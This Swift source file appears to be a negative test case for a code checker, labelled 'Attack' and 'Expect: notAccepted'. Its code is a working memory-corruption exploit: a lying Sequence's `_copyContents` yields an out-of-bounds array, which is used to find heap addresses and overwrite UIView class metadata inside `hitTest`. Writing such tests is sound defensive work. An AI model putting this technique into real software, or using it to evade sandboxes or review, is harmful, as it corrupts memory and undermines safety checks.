// Attack: a protocol of its own asks Array for a hidden member, whose pointer type nobody names.
// Exercise: 3
// Expect: notAccepted
// Held by: requirements of an answer have no hidden names
import UIKit

protocol Copied: Sequence {
    associatedtype Place
    func _copyContents(initializing place: Place) -> (Iterator, Int)
}
extension Array: Copied {}

struct Liar: Sequence {
    struct Iterator: IteratorProtocol { mutating func next() -> Int? { nil } }
    func makeIterator() -> Iterator { Iterator() }
    var underestimatedCount: Int { 0 }
    func _copyContents(initializing place: [Int].Place) -> (Iterator, Int) { (Iterator(), 1 << 62) }
}

final class Mark { var first = 0x1357_9BDF_0246_8ACE, second = 0x7654_3210_89AB_CDEF }

@MainActor enum Memory {
    static var mark = Mark()
    static var words: [Int] = []
    static var base = 0
    static var marks: [Mark] = []
    static func prepare() {
        words = [1, 2, 3]
        words.append(contentsOf: Liar())
        // The address of the array: that of a marked object, minus its distance.
        for _ in 0..<2000 { marks.append(Mark()) }
        var index = 0
        while words[index] != 0x1357_9BDF_0246_8ACE || words[index + 1] != 0x7654_3210_89AB_CDEF { index += 1 }
        let values = Dictionary(uniqueKeysWithValues: marks.map { (UInt(bitPattern: ObjectIdentifier($0)), $0) })
        words[index] = 77
        let found = values.first { $0.value.first == 77 }!
        base = Int(found.key) + 16 - index * 8
    }
    static func index(_ address: Int) -> Int { ((address &- base) >> 3) & (1 << 61 - 1) }
}

@MainActor enum Ear {
    static let index: Int = {
        Memory.prepare()
        return Memory.index(Int(bitPattern: ObjectIdentifier(UIView.self)) + Ear.distance)
    }()
    static let distance = 0x188d60 - 0x16bf98
}

class BaseView: UIView {
    override func hitTest(_ point: CGPoint, with event: UIEvent?) -> UIView? {
        let index = Ear.index
        let kinds = Memory.words[index]
        Memory.words[index] = kinds & ~0xFFFF_FFFF
        defer { Memory.words[index] = kinds }
        return super.hitTest(point, with: event)
    }
}
